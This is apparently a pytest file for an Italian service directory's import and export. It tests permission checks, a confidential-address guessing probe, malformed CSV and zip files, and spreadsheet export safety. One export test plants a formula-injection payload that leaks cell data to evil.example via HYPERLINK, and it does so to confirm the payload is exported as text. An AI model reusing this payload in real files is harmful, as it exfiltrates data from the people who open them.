"""Imports and exports against hostile or broken files: records of other organisations moved or confirmed by
guessing, programmes taken over, unclosed quotes, huge numbers, repeated columns, control characters and
formulas in the spreadsheet export, damaged archives, and the language of background imports."""

from __future__ import annotations

import io
import random
import time
import zipfile
from typing import Any

import openpyxl
import pytest

from trama.core.testing import Personas
from trama.directory import services
from trama.directory.api import ids
from trama.directory.importexport import jobs
from trama.directory.importexport.datapackage import import_package
from trama.directory.importexport.export import export
from trama.directory.importexport.package_read import PackageFileError, package_files
from trama.directory.importexport.template import import_file
from trama.directory.models import Location, Program, Service
from trama.directory.models.jobs import ImportJob
from trama.directory.tests.helpers import make_location, make_service, package_zip

pytestmark = pytest.mark.django_db


# --- The datapackage: rights on what a row points to now, programmes, unpublished records -----------------


def test_a_row_of_another_organisation_cannot_be_moved_onto_ones_own_service(personas: Personas) -> None:
    p = personas
    theirs = make_service(p, maintainer=p.ets_b, name="Servizio Beta")
    their_place = make_location(p, maintainer=p.ets_b, name="Sede Beta")
    link = services.service_at_location_attach(service=theirs, location=their_place, by=p.referent_b)
    phone = services.phone_add(by=p.referent_b, number="02 5555555", service=theirs)
    mine = make_service(p, name="Servizio Alfa")
    moves: list[dict[str, list[list[Any]]]] = [
        {"phones.csv": [["id", "service_id", "number"], [phone.hsds_id, mine.hsds_id, "02 9999999"]]},
        {"service_at_location.csv": [["id", "service_id", "location_id"],
                                     [link.hsds_id, mine.hsds_id, their_place.hsds_id]]},
    ]
    for files in moves:
        result = import_package(package_zip(files), by=p.referent, maintainer=p.ets_a)
        assert [e.message for e in result.errors] == [
            "non puoi modificare «Servizio Beta»: la scheda è aggiornata da un altro ente."], files
    phone.refresh_from_db()
    link.refresh_from_db()
    assert (phone.service_id, phone.number, link.service_id) == (theirs.pk, "02 5555555", theirs.pk)


def test_a_programme_is_created_or_changed_only_by_who_edits_its_organisation(personas: Personas) -> None:
    p = personas
    city = Program.objects.create(organisation=p.comune, name="QuBì")
    taken = package_zip({"programs.csv": [["id", "organization_id", "name"],
                                   [city.hsds_id, ids.organisation_id(p.ets_a.pk), "Programma Alfa"]]})
    result = import_package(taken, by=p.officer, maintainer=p.ets_a)
    assert [(e.column, e.message) for e in result.errors] == [
        ("organization_id", "non puoi creare o modificare il programma «Programma Alfa»: appartiene a un altro "
                            "ente.")]
    city.refresh_from_db()
    assert (city.name, city.organisation_id) == ("QuBì", p.comune.pk)
    other = package_zip({"programs.csv": [["id", "organization_id", "name"],
                                   ["0b5a3c1e-2f43-4e7a-9d0c-1a2b3c4d5e6f", ids.organisation_id(p.ets_b.pk),
                                    "Di Beta"]]})
    assert import_package(other, by=p.officer, maintainer=p.ets_a).errors
    own = package_zip({"programs.csv": [["id", "organization_id", "name"],
                                 ["0b5a3c1e-2f43-4e7a-9d0c-1a2b3c4d5e70", ids.organisation_id(p.ets_a.pk), "Di Alfa"]]})
    assert not import_package(own, by=p.officer, maintainer=p.ets_a).errors
    assert Program.objects.get(name="Di Alfa").organisation_id == p.ets_a.pk
    coordinator = import_package(taken, by=p.coordinator, maintainer=p.ets_a)
    assert not coordinator.errors  # the city coordinator edits every organisation's records


def test_guessing_a_confidential_address_gets_the_same_answer_right_or_wrong(personas: Personas) -> None:
    p = personas
    shelter = make_location(p, maintainer=p.ets_b, name="Casa rifugio", address_text="Via Padova 100",
                            confidential_address=True)
    stored = Location.objects.get(pk=shelter.pk).address_text
    answers = []
    for guess in ("Via Padova 90", stored):
        data = package_zip({"addresses.csv": [["id", "location_id", "address_1"],
                                       ["11111111-1111-4111-8111-000000000001", shelter.hsds_id, guess]]})
        result = import_package(data, by=p.referent, maintainer=p.ets_a)
        answers.append(([e.message for e in result.errors], result.unchanged))
    assert answers[0] == answers[1]
    assert answers[0][0] == ["non puoi modificare «Casa rifugio»: la scheda è aggiornata da un altro ente."]


def test_unchanged_published_rows_of_other_organisations_still_import_as_unchanged(personas: Personas) -> None:
    """Re-importing the public export (which holds every organisation's services) is not an error."""
    p = personas
    theirs = make_service(p, maintainer=p.ets_b, name="Servizio Beta", is_public=True)
    data = package_zip({"services.csv": [["id", "organization_id", "name", "status"],
                                  [theirs.hsds_id, ids.organisation_id(p.ets_b.pk), "Servizio Beta", "active"]]})
    result = import_package(data, by=p.referent, maintainer=p.ets_a)
    assert not result.errors and result.unchanged == 1
    hidden = make_service(p, maintainer=p.ets_b, name="Servizio nascosto", is_public=False)
    data = package_zip({"services.csv": [["id", "organization_id", "name", "status"],
                                  [hidden.hsds_id, ids.organisation_id(p.ets_b.pk), "Servizio nascosto", "active"]]})
    assert [e.message for e in import_package(data, by=p.referent, maintainer=p.ets_a).errors] == [
        "non puoi modificare «Servizio nascosto»: la scheda è aggiornata da un altro ente."]


def test_a_huge_number_is_refused_at_once(personas: Personas) -> None:
    data = package_zip({"services.csv": [["id", "organization_id", "name", "status", "minimum_age"],
                                  ["22222222-2222-4222-8222-000000000001", ids.organisation_id(personas.ets_a.pk),
                                   "Doposcuola", "active", "1e999999999"]]})
    start = time.perf_counter()
    result = import_package(data, by=personas.referent, maintainer=personas.ets_a)
    assert time.perf_counter() - start < 30  # a guard against a hang, not a speed figure
    assert [(e.row, e.column, e.message) for e in result.errors] == [
        (2, "minimum_age", "«1e999999999» è troppo grande.")]
    assert not Service.objects.filter(name="Doposcuola").exists()


def test_an_unclosed_quote_in_a_datapackage_csv_is_an_error(personas: Personas) -> None:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("services.csv", 'id,organization_id,name,status\n'
                                         f'22222222-2222-4222-8222-000000000002,{ids.organisation_id(personas.ets_a.pk)},'
                                         '"Doposcuola,active\n')
    result = import_package(data.getvalue(), by=personas.referent, maintainer=personas.ets_a)
    assert [(e.row, e.message) for e in result.errors if "CSV" in e.message] == [
        (2, "CSV non leggibile: unexpected end of data")]
    assert not Service.objects.filter(name__startswith="Doposcuola").exists()


def test_a_damaged_archive_member_is_named(personas: Personas) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("services.csv", random.Random(1).randbytes(5000))  # incompressible: 5000 bytes of data
    data = bytearray(buffer.getvalue())
    start = data.find(b"services.csv") + len("services.csv")  # the local header's name, then the data
    data[start + 1000:start + 1100] = b"\x00" * 100
    with pytest.raises(PackageFileError) as refused:
        package_files(bytes(data))
    assert "services.csv" in str(refused.value)


# --- The Italian one-sheet template -----------------------------------------------------------------------


def test_an_unclosed_quote_in_the_template_imports_nothing_and_says_where(personas: Personas) -> None:
    data = b'nome servizio;descrizione\nQuattro;"Sportello lavoro\nCinque;ok\nSei;ok\n'
    result = import_file(data, "servizi.csv", by=personas.referent, maintainer=personas.ets_a)
    assert len(result.errors) == 1 and "dalla riga 2" in result.errors[0].message
    assert "virgolette" in result.errors[0].message
    assert not Service.objects.filter(name__in=["Quattro", "Cinque", "Sei"]).exists()


def test_a_repeated_column_is_an_error_not_a_lost_value(personas: Personas) -> None:
    for header in ("nome servizio;descrizione;Descrizione", "nome;nome servizio"):
        data = f"{header}\nA;Testo importante;\n".encode()
        result = import_file(data, "servizi.csv", by=personas.referent, maintainer=personas.ets_a)
        assert [(e.row, e.message.split(":")[0]) for e in result.errors] == [(1, "colonna ripetuta")], header
    assert not Service.objects.filter(name="A").exists()


def test_errors_about_the_place_name_the_place_column(personas: Personas) -> None:
    data = f"nome servizio;nome sede;indirizzo\nDoposcuola;{'S' * 300};Via Padova 36\n".encode()
    result = import_file(data, "servizi.csv", by=personas.referent, maintainer=personas.ets_a)
    assert [(e.row, e.column) for e in result.errors] == [(2, "nome sede")]


def test_an_age_written_with_other_digits_is_an_error_of_its_cell(personas: Personas) -> None:
    data = "nome servizio;età minima\nDoposcuola;²\n".encode()
    result = import_file(data, "servizi.csv", by=personas.referent, maintainer=personas.ets_a)
    assert [(e.row, e.column) for e in result.errors] == [(2, "età minima")]


def test_the_organisation_column_takes_active_organisations_only(personas: Personas) -> None:
    personas.ets_b.is_active = False
    personas.ets_b.save(update_fields=["is_active"])
    data = f"nome servizio;ente\nDoposcuola;{personas.ets_b.name}\n".encode()
    result = import_file(data, "servizi.csv", by=personas.referent, maintainer=personas.ets_a)
    assert [(e.row, e.column) for e in result.errors] == [(2, "ente")]
    assert "non è attivo" in result.errors[0].message


def test_a_background_import_speaks_the_language_of_who_started_it(
        personas: Personas, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(jobs.connections, "close_all", lambda: None)  # the test's own connection stays open
    job = ImportJob.objects.create(kind="template", created_by=personas.referent, maintainer=personas.ets_a,
                                   filename="servizi.csv", data=b"nome servizio;colore\nA;rosso\n", total=1)
    jobs._run_in_thread(job.pk, "en")
    job.refresh_from_db()
    assert job.errors[0]["message"] == "column not in the template."


# --- The spreadsheet export -------------------------------------------------------------------------------


def test_the_spreadsheet_export_holds_text_never_formulas_or_forbidden_characters(personas: Personas) -> None:
    p = personas
    make_service(p, name='=HYPERLINK("http://evil.example/?x="&A3,"Clicca")', is_public=True)
    make_service(p, name="Sportello", description="uno\x01due", is_public=True)
    workbook = openpyxl.load_workbook(io.BytesIO(export("xlsx")))
    cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert '=HYPERLINK("http://evil.example/?x="&A3,"Clicca")' in values
    assert "unodue" in values
